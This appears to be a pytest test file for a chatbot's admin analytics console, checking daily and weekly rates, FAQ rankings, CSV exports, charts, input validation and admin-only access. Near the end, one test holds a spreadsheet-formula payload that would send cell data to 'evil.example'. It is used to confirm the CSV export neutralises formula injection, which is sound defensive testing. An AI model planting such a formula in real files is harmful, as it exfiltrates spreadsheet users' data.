"""The analytics page on a small log seeded over three days in two weeks: each figure worked
out here from what was seeded, the CSV against the page, the plots, and bad input."""

from __future__ import annotations

import csv
import io
import re
from datetime import date, datetime, timedelta

import pytest

from bot.conversations.analytics import (
    AnalyticsService,
    FallbackIntent,
    FaqUse,
    IntentConfidence,
    most_unhelpful,
)
from bot.conversations.log import ConversationLog
from bot.conversations.metrics import report_range
from tests.conftest import Clock, keyword_classifier, open_services
from tests.test_console import PASSWORD, login
from tests.test_review import bot, slots

MON, TUE, NEXT_MON = date(2026, 11, 16), date(2026, 11, 17), date(2026, 11, 23)
WINDOW = "from=2026-11-01&to=2026-11-30"
START, END = report_range(date(2026, 11, 1), date(2026, 11, 30))
ANSWER = (
    "Opened items can be returned within 30 days.\n\nSource: FAQ 'returns-opened', knowledge ab"
)
OTHER = "Sorry about that. This may answer it instead:\n\nYou have 30 days.\n\nSource: FAQ 'x'"
PAYPAL = "Yes, we take PayPal.\n\nSource: FAQ 'payments-paypal', knowledge ab"


def at(day: date, hour: int, minute: float = 0) -> datetime:
    return datetime.combine(day, datetime.min.time()) + timedelta(hours=hour, minutes=minute)


def ts(when: datetime) -> float:
    return (when - datetime(1970, 1, 1)).total_seconds()


def said(sender: str, when: datetime, text: str, intent: str, confidence: float, *ranked):
    """A customer's message; `ranked` (name, confidence) pairs follow the intent's own."""
    ranking = [{"name": intent, "confidence": confidence}] + [
        {"name": n, "confidence": c} for n, c in ranked
    ]
    parse = {"intent": {"name": intent, "confidence": confidence}, "intent_ranking": ranking}
    return [{"sender_id": sender, "event": "user", "text": text, "timestamp": ts(when),
             "parse_data": {**parse, "entities": []}}]  # fmt: skip


def answered(sender: str, when: datetime, text: str, action: str, shown=None, candidates=None):
    """An FAQ action's message and the slots it sets right after it (as Rasa logs them)."""
    events = bot(sender, text, ts(when), action, faq_decision="answer")
    if candidates:
        events += slots(sender, ts(when) + 0.5, candidates, 0.8)
    if shown:
        events.append({"sender_id": sender, "event": "slot", "name": "faq_shown",
                       "value": shown, "timestamp": ts(when) + 0.6})  # fmt: skip
    return events


R_OPENED, R_WINDOW, PAYPAL_ID = "faq:returns-opened", "faq:returns-window", "faq:payments-paypal"
LOG = [
    # Monday: four conversations, two handed to a person (tickets below).
    *said("h1", at(MON, 10), "I was charged twice", "billing_problem", 0.62),
    *said("h2", at(MON, 11), "I want a person", "request_human", 0.97),
    *said("f1", at(MON, 12), "can I return an opened blender", "ask_knowledge", 0.55),
    *answered("f1", at(MON, 12, 0.1), ANSWER, "action_answer_faq", [R_OPENED],
              [R_OPENED, R_WINDOW]),
    *said("f1", at(MON, 12, 1), "great, thanks", "thank_you", 0.99),
    *said("f2", at(MON, 13), "return opened box?", "ask_knowledge", 0.45),
    *answered("f2", at(MON, 13, 0.1), ANSWER, "action_answer_faq", [R_OPENED],
              [R_OPENED, R_WINDOW]),
    *said("f2", at(MON, 13, 1), "/faq_not_helpful", "faq_not_helpful", 1.0),
    *answered("f2", at(MON, 13, 1.1), OTHER, "action_faq_not_helpful", [R_OPENED, R_WINDOW]),
    *said("f2", at(MON, 13, 2), "ok bye", "goodbye", 0.93),
    # Tuesday: a fallback, and an answer chosen with a clarify button.
    *said("fb1", at(TUE, 9), "blorp zzz", "nlu_fallback", 0.7, ("order_status", 0.22),
          ("greet", 0.08)),
    *bot("fb1", "Sorry, I'm not sure I understood.", ts(at(TUE, 9, 0.1)),
         "action_fallback_suggest"),
    *said("p1", at(TUE, 10), '/ask_knowledge{"faq_id":"faq:payments-paypal"}', "ask_knowledge",
          1.0),
    *answered("p1", at(TUE, 10, 0.1), PAYPAL, "action_answer_faq", [PAYPAL_ID]),
    *said("p1", at(TUE, 10, 1), "thanks", "thank_you", 0.97),
    # Next Monday: a fallback handed off, and an answer logged before faq_shown was kept.
    *said("fb2", at(NEXT_MON, 9), "zzz my order??", "nlu_fallback", 0.7, ("order_status", 0.28)),
    *said("old", at(NEXT_MON, 10), "opened returns", "ask_knowledge", 0.4),
    *answered("old", at(NEXT_MON, 10, 0.1), ANSWER, "action_answer_faq", None, [R_OPENED]),
    *said("old", at(NEXT_MON, 10, 1), "/faq_not_helpful", "faq_not_helpful", 1.0),
    *bot("old", "Would you like a person?", ts(at(NEXT_MON, 10, 1.1)), "action_faq_not_helpful"),
]  # fmt: skip
HANDOFFS = {"h1": at(MON, 10, 1), "h2": at(MON, 11, 1), "fb2": at(NEXT_MON, 9, 2)}


def seed(url: str) -> None:
    """The log above, the three handoffs, and Alex's work on h1: taken 2 minutes after the
    handoff, first reply at 5, resolved at 20."""
    clock = Clock(at(MON, 9))
    services = open_services(url, clock=clock, classifier=keyword_classifier)
    alex = services.agents.create("alex", "Alex", PASSWORD, skills=["billing"])
    services.agents.create("sam", "Sam", PASSWORD, role="admin")
    log = ConversationLog(services.engine)
    for event in LOG:
        log.write(event)
    for conversation, when in HANDOFFS.items():
        clock.now = when
        opened = services.escalation.open(
            conversation, "customer_request", [("customer", "I was charged twice")]
        )
        if conversation == "h1":
            for minute, step in ((2, services.tickets.take), (5, services.tickets.replied),
                                 (20, services.tickets.resolve)):  # fmt: skip
                clock.now = when + timedelta(minutes=minute)
                step(opened.ticket_id, alex)
    services.engine.dispose()


@pytest.fixture
def analytics(db_url) -> AnalyticsService:
    seed(db_url)
    services = open_services(db_url, classifier=keyword_classifier)
    yield services.analytics
    services.engine.dispose()


def test_a_day_with_two_handoffs_of_four_conversations_shows_half(analytics):
    monday, tuesday, next_monday = analytics.rates(START, END, "day")
    assert (monday.first, tuesday.first, next_monday.first) == (MON, TUE, NEXT_MON)
    assert (monday.conversations, monday.customer_messages) == (4, 7)
    assert (monday.handoff_rate, monday.containment_rate) == (0.5, 0.5)
    assert monday.faq_answer_rate == 0.5  # f1 and f2
    assert (monday.faq_answers, monday.faq_acceptance) == (3, pytest.approx(2 / 3))
    assert (tuesday.conversations, tuesday.handoff_rate) == (2, 0.0)
    assert tuesday.fallback_rate == pytest.approx(1 / 3)  # fb1's one message of three
    assert (next_monday.conversations, next_monday.handoff_rate) == (2, 0.5)


def test_each_bucket_is_the_metrics_page_for_its_dates_and_weeks_add_up(analytics):
    days = analytics.rates(START, END, "day")
    weeks = analytics.rates(START, END, "week")
    assert [(w.first, w.conversations) for w in weeks] == [(MON, 6), (NEXT_MON, 2)]
    for w in weeks:
        in_week = [d for d in days if w.first <= d.first < w.first + timedelta(days=7)]
        assert w.conversations == sum(d.conversations for d in in_week)
        assert w.faq_answers == sum(d.faq_answers for d in in_week)
    assert weeks[0].handoff_rate == pytest.approx(2 / 6)
    for row, length in [*((d, 1) for d in days), *((w, 7) for w in weeks)]:
        page = analytics.bot_metrics(*report_range(row.first, row.first + timedelta(length - 1)))
        assert (row.conversations, row.handoff_rate, row.fallback_rate, row.faq_acceptance) == (
            page.conversations,
            page.handoff_rate,
            page.fallback_rate,
            page.faq_acceptance,
        )


def test_a_week_cut_by_the_window_starts_on_the_windows_first_day(analytics):
    start, end = report_range(date(2026, 11, 17), date(2026, 11, 30))
    assert [(w.first, w.conversations) for w in analytics.rates(start, end, "week")] == [
        (TUE, 2),
        (NEXT_MON, 2),
    ]


def test_weakest_intents_and_what_the_fallbacks_were_nearly(analytics):
    low = analytics.low_confidence_intents(START, END, top=3)
    assert low == [
        IntentConfidence("ask_knowledge", 4, pytest.approx((0.55 + 0.45 + 1.0 + 0.4) / 4)),
        IntentConfidence("billing_problem", 1, pytest.approx(0.62)),
        IntentConfidence("goodbye", 1, pytest.approx(0.93)),
    ]
    assert analytics.fallback_intents(START, END) == [
        FallbackIntent("order_status", 2, pytest.approx(0.25))
    ]


def test_faq_entries_by_answers_and_by_didnt_help(analytics):
    uses = analytics.faq_use(START, END)
    # returns-opened: f1, f2's first and old's (named by its candidates, no faq_shown logged);
    # returns-window: f2's second; payments-paypal: chosen with a clarify button.
    assert uses == [FaqUse(R_OPENED, 3, 2), FaqUse(PAYPAL_ID, 1, 0), FaqUse(R_WINDOW, 1, 0)]
    assert most_unhelpful(uses) == [FaqUse(R_OPENED, 3, 2)]
    assert sum(u.answers for u in uses) == analytics.bot_metrics(START, END).faq_answers


# --- the page ----------------------------------------------------------------------------


@pytest.fixture
async def admin(client, web_services):
    seed(web_services.engine.url.render_as_string(hide_password=False))
    await login(client, "sam")
    return client


def _text(cell: str) -> str:
    return re.sub(r"<[^>]+>", "", cell).strip()


def page_rows(page: str, table: str) -> list[list[str]]:
    section = re.search(rf'<section id="{table}">(.*?)</section>', page, re.S)
    assert section, f"no {table} table"
    rows = re.findall(r"<tr>(.*?)</tr>", section.group(1), re.S)
    return [[_text(c) for c in re.findall(r"<td>(.*?)</td>", r, re.S)] for r in rows[1:]]


async def csv_rows(client, query: str) -> list[dict[str, str]]:
    response = await client.get(f"/console/admin/analytics.csv?{query}")
    assert response.status == 200 and response.content_type == "text/csv"
    return list(csv.DictReader(io.StringIO(await response.text())))


async def test_the_page_shows_each_days_rates_and_the_rankings(admin):
    page = await (await admin.get(f"/console/admin/analytics?{WINDOW}")).text()
    assert page_rows(page, "rates")[0] == [
        "2026-11-16", "4", "7", "50%", "50%", "0%", "50%", "3", "67%"
    ]  # fmt: skip
    assert page_rows(page, "faq_not_helpful") == [[R_OPENED, "3", "2", "67%"]]
    assert page_rows(page, "fallbacks") == [["order_status", "2", "0.25"]]
    assert page_rows(page, "low_confidence")[0] == ["ask_knowledge", "4", "0.60"]
    # Alex's first reply came 5 minutes after the handoff; held from minute 2 to 20.
    assert ["Alex", "1", "5.0 min", "18.0 min", "100%"] in page_rows(page, "agents")
    for chart in ("rates", "intents", "faq"):
        assert (
            f"/console/admin/analytics/{chart}.png?period=day&amp;{WINDOW.replace('&', '&amp;')}"
            in page
        )


async def test_weekly_buckets_sum_the_days(admin):
    page = await (await admin.get(f"/console/admin/analytics?period=week&{WINDOW}")).text()
    assert [r[:2] + r[4:5] for r in page_rows(page, "rates")] == [
        ["2026-11-16", "6", "33%"],
        ["2026-11-23", "2", "50%"],
    ]
    days = await csv_rows(admin, f"table=rates&period=day&{WINDOW}")
    weeks = await csv_rows(admin, f"table=rates&period=week&{WINDOW}")
    first_week = [d for d in days if d["day"] < "2026-11-23"]
    assert int(weeks[0]["conversations"]) == sum(int(d["conversations"]) for d in first_week)


@pytest.mark.parametrize("period", ["day", "week"])
async def test_every_csv_holds_the_rows_the_page_shows(admin, period):
    query = f"period={period}&{WINDOW}"
    page = await (await admin.get(f"/console/admin/analytics?{query}")).text()
    tables = ("rates", "low_confidence", "fallbacks", "faq_answered", "faq_not_helpful", "agents")
    for table in tables:
        shown = page_rows(page, table)
        exported = await csv_rows(admin, f"table={table}&{query}")
        assert shown, table
        assert [list(r.values())[0] for r in exported] == [r[0] for r in shown], table
    exported = await csv_rows(admin, f"table=rates&{query}")
    assert exported[0]["handoff_rate"] == ("0.5" if period == "day" else "0.3333")


async def test_an_empty_window_says_no_data(admin):
    empty = "from=2025-01-01&to=2025-01-31"
    response = await admin.get(f"/console/admin/analytics?{empty}")
    page = await response.text()
    assert response.status == 200
    assert page.count("No data in this window.") == 5  # every table but the agents'
    assert "analytics/rates.png" not in page
    assert await csv_rows(admin, f"table=faq_answered&{empty}") == []
    plot = await admin.get(f"/console/admin/analytics/rates.png?{empty}")
    assert (await plot.read()).startswith(b"\x89PNG\r\n\x1a\n")


async def test_the_plots_are_pngs(admin):
    for chart in ("rates", "intents", "faq"):
        response = await admin.get(f"/console/admin/analytics/{chart}.png?period=week&{WINDOW}")
        assert response.status == 200 and response.content_type == "image/png"
        assert (await response.read()).startswith(b"\x89PNG\r\n\x1a\n")


@pytest.mark.parametrize(
    ("query", "message"),
    [
        ("from=2026-13-01", "dates look like 2026-11-25"),
        ("from=2026-11-30&to=2026-11-01", "from must not be after to"),
        ("period=month", "period must be one of day, week"),
    ],
)
async def test_bad_input_is_a_400_that_says_why(admin, query, message):
    for path in ("", ".csv?table=rates&", "/rates.png?"):
        url = f"/console/admin/analytics{path}" + ("?" if not path else "") + query
        response = await admin.get(url)
        assert (response.status, await response.text()) == (400, message), url
    response = await admin.get(f"/console/admin/analytics.csv?table=secrets&{WINDOW}")
    assert response.status == 400 and "table must be one of" in await response.text()


async def test_only_admins_see_analytics(client, web_services):
    seed(web_services.engine.url.render_as_string(hide_password=False))
    await login(client, "alex")
    for path in ("", ".csv?table=rates", "/rates.png"):
        assert (await client.get(f"/console/admin/analytics{path}")).status == 403
    assert 'href="/console/admin/analytics"' not in await (await client.get("/console")).text()


FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Refund")'


async def test_a_formula_typed_by_a_customer_stays_text_in_the_csv(admin, web_services):
    """Typed intent syntax names the intent after what the customer wrote; the admin's
    spreadsheet must show it, not run it."""
    log = ConversationLog(web_services.engine)
    for event in said("evil", at(TUE, 11), f"/{FORMULA}", FORMULA, 0.01):
        log.write(event)
    rows = await csv_rows(admin, f"table=low_confidence&{WINDOW}")
    assert rows[0]["intent"] == "'" + FORMULA
    assert all(not v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values())
